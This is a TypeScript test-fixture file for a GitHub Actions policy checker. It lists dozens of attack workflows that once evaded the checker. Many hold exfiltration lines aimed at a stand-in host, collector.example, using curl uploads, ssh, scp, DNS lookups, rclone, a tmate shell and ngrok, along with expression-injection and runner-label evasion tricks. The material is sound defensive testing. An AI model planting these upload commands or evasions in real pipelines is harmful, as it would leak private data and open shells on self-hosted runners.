/**
 * Workflow changes that got a green guard before the policy read them as GitHub does, each with the
 * rule that now refuses it, the file the finding names and the line that carries the attack. Shared
 * by the unit test (test/workflow-policy/unseen-attacks.test.ts) and the red-team class.
 */
import { HEADER } from './policy-check.js';

export interface UnseenCase {
  id: string;
  /** Why GitHub runs it the dangerous way. */
  why: string;
  files: Record<string, string>;
  rule: string;
  /** The file the finding names. */
  file: string;
  /** Text on the line the finding points at. */
  marker: string;
}

const WF = '.github/workflows/ci.yml';
const SCHEDULE = `on:\n  schedule:\n    - cron: '0 3 * * 1'\n${HEADER}`;
const RECOMMENDED =
  "github.event_name == 'schedule' || github.ref == format('refs/heads/{0}', github.event.repository.default_branch)";
const SHA64 = 'a'.repeat(64);

/** A scheduled job on a self-hosted runner, with the recommended condition, running `steps`. */
const dataJob = (steps: string) =>
  `${SCHEDULE}jobs:\n  export:\n    if: ${RECOMMENDED}\n    runs-on: [self-hosted, linux]\n    steps:\n${steps}`;
/** A pull_request job whose runner is `runsOn`. */
const prRunner = (runsOn: string, extra = '') =>
  `on: pull_request\n${HEADER}jobs:\n  test:\n${extra}    runs-on: ${runsOn}\n    steps:\n      - run: make test\n`;
/** A self-hosted job whose condition looks scheduled-only to a reader who takes unlisted payload fields for null. */
const prCondition = (condition: string) =>
  `on:\n  pull_request:\n  schedule:\n    - cron: '0 3 * * 1'\n${HEADER}jobs:\n  train:\n    if: ${condition}\n    runs-on: self-hosted\n    steps:\n      - run: python train.py\n`;
const workflowRun = (steps: string) =>
  `on:\n  workflow_run:\n    workflows: [ci]\n    types: [completed]\n${HEADER}jobs:\n  report:\n    runs-on: ubuntu-latest\n    steps:\n${steps}`;

const one = (id: string, why: string, text: string, rule: string, marker: string, file = WF): UnseenCase => ({
  id,
  why,
  files: { [file]: text },
  rule,
  file,
  marker,
});

export function unseenCases(): UnseenCase[] {
  return [
    one(
      'runs-on-head-ref-fallback',
      "a fork names its branch `self-hosted`; `github.head_ref || 'ubuntu-latest'` then picks the data runner",
      prRunner("${{ github.head_ref || 'ubuntu-latest' }}"),
      'workflow/self-hosted-trigger',
      'github.head_ref ||',
    ),
    one(
      'runs-on-title-fallback',
      'the pull request title becomes the runner label',
      prRunner("${{ github.event.pull_request.title || 'ubuntu-22.04' }}"),
      'workflow/self-hosted-trigger',
      'pull_request.title ||',
    ),
    one(
      'runs-on-and-or-branch',
      "`cond && 'hosted' || github.head_ref` yields the branch name whenever cond is false",
      prRunner("${{ github.event.pull_request.draft && 'ubuntu-latest' || github.head_ref }}"),
      'workflow/self-hosted-trigger',
      'draft &&',
    ),
    one(
      'runs-on-matrix-key-case',
      'matrix.OS reads the key `os` (GitHub looks context keys up without case)',
      prRunner('${{ matrix.OS }}', '    strategy:\n      matrix:\n        os: [self-hosted]\n'),
      'workflow/self-hosted-trigger',
      'os: [self-hosted]',
    ),
    one(
      'if-github-workspace',
      '`github.workspace` is always a non-empty path',
      prCondition("github.event_name == 'schedule' || github.workspace"),
      'workflow/self-hosted-trigger',
      'runs-on: self-hosted',
    ),
    one(
      'if-event-organization',
      'every event of an organisation repository carries `organization`',
      prCondition("github.event_name == 'schedule' || github.event.organization.login != ''"),
      'workflow/self-hosted-trigger',
      'runs-on: self-hosted',
    ),
    one(
      'if-pull-request-id',
      'a pull request payload has a numeric `id`',
      prCondition("github.event_name == 'schedule' || github.event.pull_request.id > 0"),
      'workflow/self-hosted-trigger',
      'runs-on: self-hosted',
    ),
    one(
      'if-event-after',
      'a synchronize payload carries the pushed head as `after`',
      prCondition("github.event_name == 'schedule' || github.event.after"),
      'workflow/self-hosted-trigger',
      'runs-on: self-hosted',
    ),
    one(
      'if-actor-id',
      '`github.actor_id` is set on every run',
      prCondition("github.actor_id != ''"),
      'workflow/self-hosted-trigger',
      'runs-on: self-hosted',
    ),
    one(
      'if-repository-visibility',
      "the payload's repository has `visibility`",
      prCondition("github.event_name == 'schedule' || github.event.repository.visibility == 'public'"),
      'workflow/self-hosted-trigger',
      'runs-on: self-hosted',
    ),
    one(
      'workflow-run-head-commit',
      'workflow_run.head_commit.id is the fork head, checked out with the base repository secrets',
      workflowRun(
        '      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.workflow_run.head_commit.id }}\n          persist-credentials: false\n      - run: npm test\n',
      ),
      'workflow/untrusted-checkout',
      'head_commit.id',
    ),
    one(
      'workflow-run-git-checkout',
      'git fetch + git checkout of the head SHA in a script',
      workflowRun(
        '      - uses: actions/checkout@v4\n        with:\n          persist-credentials: false\n      - run: |\n          git fetch origin ${{ github.event.workflow_run.head_sha }}\n          git checkout ${{ github.event.workflow_run.head_sha }}\n          npm test\n',
      ),
      'workflow/untrusted-checkout',
      '- run: |',
    ),
    one(
      'checkout-trailing-slash',
      'the runner drops empty path segments: `actions/checkout/@v4` is actions/checkout',
      workflowRun(
        '      - uses: actions/checkout/@v4\n        with:\n          ref: ${{ github.event.workflow_run.head_sha }}\n          persist-credentials: false\n      - run: npm test\n',
      ),
      'workflow/untrusted-checkout',
      'ref: ${{',
    ),
    one(
      'github-script-dot-segment',
      '`actions/./github-script@v7` is github-script: the comment body is inlined into its JavaScript',
      `on: issue_comment\n${HEADER}jobs:\n  echo:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/./github-script@v7\n        with:\n          script: console.log("\${{ github.event.comment.body }}")\n`,
      'workflow/untrusted-expression',
      'script: console.log',
    ),
    one(
      'docker-args-injection',
      'a docker:// step with `entrypoint: sh` runs its args as a shell command',
      `on: issue_comment\n${HEADER}jobs:\n  echo:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: docker://alpine@sha256:${SHA64}\n        with:\n          entrypoint: sh\n          args: -c "echo \${{ github.event.comment.body }}"\n`,
      'workflow/untrusted-expression',
      'args: -c',
    ),
    {
      id: 'local-action-at-suffix',
      why: 'the runner reads `./actions/tidy@v1` as the folder actions/tidy@v1, not actions/tidy at v1',
      files: {
        [WF]: dataJob('      - uses: ./actions/tidy@v1\n'),
        'actions/tidy/action.yml':
          'name: tidy\ndescription: tidy\nruns:\n  using: composite\n  steps:\n    - run: echo tidy\n      shell: bash\n',
        'actions/tidy@v1/action.yml':
          'name: tidy\ndescription: tidy\nruns:\n  using: composite\n  steps:\n    - run: tar c "$DATA_ROOT" | curl -T - https://collector.example/up\n      shell: bash\n',
      },
      rule: 'workflow/self-hosted-upload',
      file: 'actions/tidy@v1/action.yml',
      marker: 'curl -T',
    },
    {
      id: 'local-docker-action-image',
      why: "a local docker action's `image: docker://…:latest` runs next to the data",
      files: {
        [WF]: dataJob('      - uses: ./actions/convert\n'),
        'actions/convert/action.yml':
          'name: convert\ndescription: convert\nruns:\n  using: docker\n  image: docker://someone/dicom-tools:latest\n',
      },
      rule: 'workflow/unpinned-image',
      file: WF,
      marker: './actions/convert',
    },
    one(
      'checkout-other-repository',
      'another repository checked out at its default branch and built on the data runner',
      dataJob(
        '      - uses: actions/checkout@v4\n        with:\n          repository: someone/preprocess\n          persist-credentials: false\n      - run: make -C preprocess\n',
      ),
      'workflow/unpinned-action',
      'repository: someone/preprocess',
    ),
    one(
      'cloned-local-action',
      'a script clones an action, then `uses: ./.act` runs it',
      dataJob('      - run: git clone https://github.com/someone/act .act\n      - uses: ./.act\n'),
      'workflow/unpinned-action',
      'uses: ./.act',
    ),
    one(
      'curl-json-upload',
      '`curl --json @file` posts the file',
      dataJob('      - run: curl --json @"$OUT/metrics.json" https://collector.example\n'),
      'workflow/self-hosted-upload',
      'curl --json',
    ),
    one(
      'curl-data-ascii-upload',
      '`--data-ascii @file` posts the file',
      dataJob('      - run: curl --data-ascii @"$DATA_ROOT/p.csv" https://collector.example\n'),
      'workflow/self-hosted-upload',
      'curl --data-ascii',
    ),
    one(
      'ssh-pipe',
      'tar piped into ssh',
      dataJob('      - run: tar c "$DATA_ROOT" | ssh u@collector.example \'cat > d.tar\'\n'),
      'workflow/self-hosted-upload',
      '| ssh',
    ),
    one(
      'gh-comment-body',
      'a DICOM base64-encoded into a pull request comment',
      dataJob('      - run: gh pr comment 1 --body "$(base64 -w0 "$DATA_ROOT/p.dcm")"\n'),
      'workflow/self-hosted-upload',
      'gh pr comment',
    ),
    one(
      'python-requests-post',
      'requests.post in a python one-liner',
      dataJob(
        `      - run: python3 -c "import requests,os; requests.post('https://collector.example', data=open(os.environ['F'],'rb'))"\n`,
      ),
      'workflow/self-hosted-upload',
      'requests.post',
    ),
    one(
      'python-urlopen-data',
      'urlopen with a data argument sends a POST',
      dataJob(
        `      - run: python3 -c "import urllib.request,sys; urllib.request.urlopen('https://collector.example', open(sys.argv[1],'rb').read())" "$OUT/x"\n`,
      ),
      'workflow/self-hosted-upload',
      'urlopen',
    ),
    one(
      'pwsh-invoke-webrequest',
      'PowerShell uploads with -InFile',
      dataJob(
        '      - shell: pwsh\n        run: Invoke-WebRequest -Uri https://collector.example -Method Put -InFile $env:F\n',
      ),
      'workflow/self-hosted-upload',
      'Invoke-WebRequest',
    ),
    one(
      'dns-exfiltration',
      'hex of a file sent as DNS lookups',
      dataJob(
        '      - run: for c in $(xxd -p "$DATA_ROOT/a" | head); do nslookup $(echo $c).collector.example; done\n',
      ),
      'workflow/self-hosted-upload',
      'nslookup',
    ),
    one(
      'docker-run-unpinned',
      'a third-party image at :latest mounted on the data',
      dataJob('      - run: docker run --rm -v "$DATA_ROOT:/d" someone/tool:latest /d\n'),
      'workflow/unpinned-image',
      'docker run',
    ),
    one(
      'github-script-reads-files',
      "github-script (GitHub's own, allowed at a tag) reads a file and posts it as a comment",
      dataJob(
        "      - uses: actions/github-script@v7\n        with:\n          script: |\n            const d = require('fs').readFileSync(process.env.F);\n            await github.rest.issues.createComment({ owner: 'o', repo: 'r', issue_number: 1, body: d.toString('base64') });\n",
      ),
      'workflow/self-hosted-upload',
      'script: |',
    ),
    one(
      'artifact-after-copy',
      'a plain folder uploaded as an artifact after the data was copied into it',
      dataJob(
        '      - run: cp -r "$DATA_ROOT/chexpert" report/\n      - uses: actions/upload-artifact@v4\n        with:\n          path: report\n',
      ),
      'workflow/self-hosted-upload',
      'upload-artifact',
    ),
    one(
      'job-summary-base64',
      'the job summary is uploaded to GitHub and readable by anyone who can read the run',
      dataJob('      - run: base64 "$DATA_ROOT/p.dcm" >> "$GITHUB_STEP_SUMMARY"\n'),
      'workflow/self-hosted-upload',
      'GITHUB_STEP_SUMMARY',
    ),
    one(
      'defaults-shell-template',
      '`defaults.run.shell` is a template every `run:` goes through: the upload hides in it',
      `${SCHEDULE}defaults:\n  run:\n    shell: 'bash -c "tar c $DATA_ROOT | curl -T - https://collector.example; bash {0}"'\njobs:\n  export:\n    if: ${RECOMMENDED}\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: make export\n`,
      'workflow/self-hosted-upload',
      "shell: 'bash -c",
    ),
    one(
      'step-shell-template',
      "a step's custom `shell:` runs its own command before the script",
      dataJob(
        `      - shell: 'sh -c "scp -r $DATA_ROOT u@collector.example: ; sh {0}"'\n        run: make export\n`,
      ),
      'workflow/self-hosted-upload',
      "shell: 'sh -c",
    ),
    one(
      'step-env-eval',
      'the upload sits in an env value the script `eval`s',
      dataJob(
        '      - env:\n          SYNC: rclone copy $DATA_ROOT remote:bucket\n        run: eval "$SYNC"\n',
      ),
      'workflow/self-hosted-upload',
      'SYNC: rclone',
    ),
    one(
      'job-env-eval',
      'the same in the job env',
      `${SCHEDULE}jobs:\n  export:\n    if: ${RECOMMENDED}\n    runs-on: [self-hosted, linux]\n    env:\n      SYNC: aws s3 sync $DATA_ROOT s3://bucket\n    steps:\n      - run: eval "$SYNC"\n`,
      'workflow/self-hosted-upload',
      'SYNC: aws s3',
    ),
    one(
      'gh-run-download',
      "the latest run's artifact may come from a fork's pull request; it runs next to the data",
      dataJob('      - run: gh run download --name model -D model && python model/run.py\n'),
      'workflow/untrusted-checkout',
      'gh run download',
    ),
    one(
      'download-artifact-other-run',
      'actions/download-artifact with run-id fetches another run',
      dataJob(
        '      - uses: actions/download-artifact@v4\n        with:\n          name: model\n          run-id: ${{ vars.LAST_RUN }}\n          github-token: ${{ github.token }}\n      - run: python model/run.py\n',
      ),
      'workflow/untrusted-checkout',
      'actions/download-artifact',
    ),
    one(
      'third-party-artifact-download',
      'a pinned third-party action that downloads the artifact of the last ci.yml run',
      dataJob(
        `      - uses: dawidd6/action-download-artifact@${'0'.repeat(40)}\n        with:\n          workflow: ci.yml\n      - run: python model/run.py\n`,
      ),
      'workflow/untrusted-checkout',
      'dawidd6',
    ),
    one(
      'github-output-base64',
      'step outputs are sent to GitHub and handed to later (hosted) jobs',
      dataJob('      - id: d\n        run: echo "d=$(base64 -w0 $DATA_ROOT/p.dcm)" >> "$GITHUB_OUTPUT"\n'),
      'workflow/self-hosted-upload',
      'GITHUB_OUTPUT',
    ),
    one(
      'artifact-bind-mount',
      'the uploaded folder is the data folder, bind-mounted',
      dataJob(
        '      - run: mkdir report && sudo mount --bind "$DATA_ROOT" report\n      - uses: actions/upload-artifact@v4\n        with:\n          path: report\n',
      ),
      'workflow/self-hosted-upload',
      'upload-artifact',
    ),
    one(
      'tmate-pinned',
      'a pinned tmate action prints an SSH link to the public log: a shell on the data runner',
      dataJob(`      - uses: mxschmitt/action-tmate@${'0'.repeat(40)}\n`),
      'workflow/self-hosted-upload',
      'action-tmate',
    ),
    one(
      'ngrok-serves-data',
      'ngrok serves the data folder to the internet',
      dataJob('      - run: ngrok http file://$DATA_ROOT\n'),
      'workflow/self-hosted-upload',
      'ngrok',
    ),
    one(
      'curl-url-substitution',
      "a GET whose URL is the file's bytes in hex",
      dataJob('      - run: curl -s "https://collector.example/$(xxd -p -l 64 $DATA_ROOT/p.dcm)"\n'),
      'workflow/self-hosted-upload',
      'curl -s',
    ),
    one(
      'container-options-injection',
      "a comment's text becomes `docker create` options (`-v /var/run/docker.sock:…`) of a job holding the base token",
      `on: issue_comment\n${HEADER}jobs:\n  build:\n    runs-on: ubuntu-latest\n    container:\n      image: alpine@sha256:${SHA64}\n      options: \${{ github.event.comment.body }}\n    steps:\n      - run: echo built\n`,
      'workflow/untrusted-expression',
      'options:',
    ),
  ];
}
